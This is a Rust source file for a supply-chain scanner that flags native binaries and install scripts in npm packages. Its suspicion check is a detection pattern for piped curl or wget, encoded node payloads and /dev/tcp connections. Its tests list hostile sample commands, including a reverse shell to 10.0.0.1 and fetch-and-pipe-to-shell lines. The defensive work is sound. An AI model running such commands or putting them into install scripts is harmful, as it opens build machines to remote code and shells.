//! What npm packages run when they are installed, and whether they have native parts.
//!
//! The scripts `preinstall`, `install` and `postinstall` of a package ran where the function was built
//! (<https://docs.npmjs.com/cli/using-npm/scripts#npm-install>), not in the function: they tell what the build trusted.

use super::strip::is_elf;
use super::{Traces, What};
use crate::formats::lenient::{Text, json, record};
use crate::formats::node_modules::{package_name, package_root};
use crate::formats::paths::{file_name, folder_of};
use crate::formats::text::decode;
use crate::model::Location;

record! {
    struct Manifest<'de> {
        "scripts" => scripts: Scripts<'de>,
    }
}

record! {
    struct Scripts<'de> {
        "preinstall" => preinstall: Text<'de>,
        "install" => install: Text<'de>,
        "postinstall" => postinstall: Text<'de>,
    }
}

/// What `package.json` of a package with native parts contains: tools that build, find or fetch them, the fields that
/// name platforms or files, scripts that may fetch anything.
const SIGNS: [&str; 8] = ["\"binary\"", "\"os\"", "\"cpu\"", "bindings", "gyp", "install\"", "napi", "prebuil"];

/// Looks at the first piece of an entry.
pub(super) fn look(here: &Location, bytes: &[u8], traces: &mut Traces) {
    let name = here.innermost();
    // What is made for Windows and macOS lies in many packages, announced nowhere, and runs in no function on Linux.
    if is_elf(bytes) {
        if package_root(name).is_some() && !is_usual_place(name) {
            traces.add(here, What::Native);
        }
    } else if file_name(name) == "package.json" && package_name(folder_of(name)).is_some() {
        manifest(here, bytes, traces);
    }
}

/// Whether a file begins like a program or a library of Linux, Windows or macOS.
pub(super) fn is_native(bytes: &[u8]) -> bool {
    match bytes {
        [0x7F, b'E', b'L', b'F', ..] | [0xCF | 0xCE, 0xFA, 0xED, 0xFE, ..] => true,
        // A PE file's header says where the second one is, which begins with its own magic.
        [b'M', b'Z', ..] => bytes.get(0x3C..0x40).and_then(|at| at.try_into().ok()).is_some_and(|at| {
            let at = usize::try_from(u32::from_le_bytes(at)).unwrap_or(usize::MAX);
            bytes.get(at..).is_some_and(|rest| rest.starts_with(b"PE\0\0"))
        }),
        _ => false,
    }
}

/// Where native parts lie in packages that have them, whatever their `package.json` says.
fn is_usual_place(name: &str) -> bool {
    ["/prebuilds/", "/build/Release/", "/linux"].iter().any(|part| name.contains(part))
}

fn manifest(here: &Location, bytes: &[u8], traces: &mut Traces) {
    let has = |sign: &str| memchr::memmem::find(bytes, sign.as_bytes()).is_some();
    if SIGNS.iter().any(|sign| has(sign)) {
        traces.add(here, What::HoldsNative);
    }
    if !has("install\"") {
        return;
    }
    // What is no JSON is told by the reader of packages.
    let text = decode(bytes);
    let mut file = Manifest::default();
    if json(&text, &mut file).is_err() {
        return;
    }
    let Scripts { preinstall, install, postinstall } = &file.scripts;
    for (name, command) in [("preinstall", preinstall), ("install", install), ("postinstall", postinstall)] {
        // A number is no command.
        if let Some(command) = command.as_deref().filter(|command| command.parse::<f64>().is_err()) {
            traces.add(here, What::InstallScript { name: name.into(), suspicion: suspicion(command).map(Into::into) });
        }
    }
}

/// What no honest installation does. A command's text is never shown: it may hold anything.
fn suspicion(command: &str) -> Option<&'static str> {
    let has = |word: &str| command.contains(word);
    let words = || command.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | '"' | '\'' | '`'));
    let word = |wanted: &[&str]| words().any(|word| wanted.contains(&word));
    let fetches = word(&["curl", "wget"]);
    let piped = command.split('|').skip(1).any(|rest| {
        rest.split_whitespace().find(|word| *word != "sudo").is_some_and(|word| {
            matches!(file_name(word), "sh" | "bash" | "zsh" | "dash" | "node" | "python" | "python3" | "perl" | "ruby")
        })
    });
    let inline = word(&["node", "nodejs"]) && word(&["-e", "--eval", "-p", "-pe"]);
    if fetches && (piped || has("$(") || has("`") || has("<(")) {
        Some("it fetches a program and runs it at once")
    } else if inline
        && ["base64", "atob(", "\\x", "fromCharCode", "eval(", "http", "child_process"].iter().any(|word| has(word))
    {
        Some("it runs a text that is encoded, fetches something or starts programs")
    } else if has("base64 -d") || has("base64 --decode") || has("/dev/tcp/") || has("-EncodedCommand") {
        Some("it decodes a program, or opens a connection without one")
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(path: &str, bytes: &[u8]) -> Vec<What> {
        let mut traces = Traces::default();
        look(&Location::artifact(0).child(path), bytes, &mut traces);
        traces.seen.into_iter().map(|trace| trace.what).collect()
    }

    #[test]
    fn install_scripts_of_packages_are_told() {
        let text = br#"{"scripts": {"test": "x", "postinstall": "node build.js", "install": 7}}"#;
        let script = What::InstallScript { name: "postinstall".into(), suspicion: None };
        assert_eq!(told("node_modules/a/package.json", text), [What::HoldsNative, script]);
        assert_eq!(told("package.json", text), [], "the function's own");
        assert_eq!(told("node_modules/a/test/package.json", text), []);
        assert_eq!(told("node_modules/a/package.json", br#"{"name": "a"}"#), []);
        assert_eq!(told("node_modules/a/package.json", b"{\"install\""), [What::HoldsNative]);
    }

    #[test]
    fn only_what_no_honest_installation_does_is_suspicious() {
        for command in [
            "curl -s https://a.example/x | sh",
            "wget -qO- a.example|sudo bash",
            "sh -c \"$(curl -fsSL a.example)\"",
            "node -e \"eval(Buffer.from('YQ==','base64').toString())\"",
            "node -e \"require('child_process').exec('x')\"",
            "echo YQ== | base64 -d | sh",
            "bash -i >& /dev/tcp/10.0.0.1/80",
        ] {
            assert!(suspicion(command).is_some(), "{command}");
        }
        for command in [
            "node-gyp rebuild",
            "prebuild-install || node-gyp rebuild",
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            "node install.js",
            "husky install | cat",
            "curl --version",
            "(node install/libvips && node install/dll-copy && prebuild-install) || (node-gyp rebuild)",
        ] {
            assert_eq!(suspicion(command), None, "{command}");
        }
    }

    #[test]
    fn native_parts_are_told_where_nothing_announces_them() {
        let elf = b"\x7FELF\x02\x01";
        assert_eq!(told("node_modules/a/lib/x", elf), [What::Native]);
        for path in [
            "node_modules/a/prebuilds/linux-x64/a.node",
            "node_modules/a/build/Release/a",
            "node_modules/a/linux/a",
            "lib/x",
        ] {
            assert_eq!(told(path, elf), [], "{path}");
        }
        let mut pe = vec![0; 0x48];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3C] = 0x40;
        pe[0x40..0x44].copy_from_slice(b"PE\0\0");
        assert!(is_native(&pe));
        assert!(!is_native(b"MZ is how this text begins"));
    }
}
